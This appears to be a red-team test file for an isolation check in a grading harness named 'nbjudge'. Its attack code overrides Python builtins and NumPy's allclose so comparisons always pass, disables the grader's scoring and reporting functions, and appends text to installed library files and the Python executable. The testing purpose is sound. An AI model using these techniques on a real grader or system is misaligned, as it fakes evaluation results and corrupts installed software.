"""In the child, NumPy, the builtins and the grader's own modules are changed for those that follow.

Success: a neighbor has other points or outputs, or a trace.
"""

ALONE = True


def attack(submission):
    submission.in_child(
        """
        import builtins, sys
        import numpy as np
        builtins.abs = builtins.len = lambda value: 0
        np.allclose = lambda *arguments, **options: True
        for name, module in list(sys.modules.items()):
            if name.startswith("nbjudge"):
                for attribute in list(vars(module)):
                    if attribute in ("checked", "encode", "send_message", "score_of", "pack"):
                        setattr(module, attribute, lambda *arguments, **options: None)
        for path in (np.__file__, sys.modules["nbjudge"].__file__, sys.executable):
            try:
                with open(path, "a") as file:
                    file.write("# red-team-was-here")
            except OSError as error:
                print(error)
        """,
    )
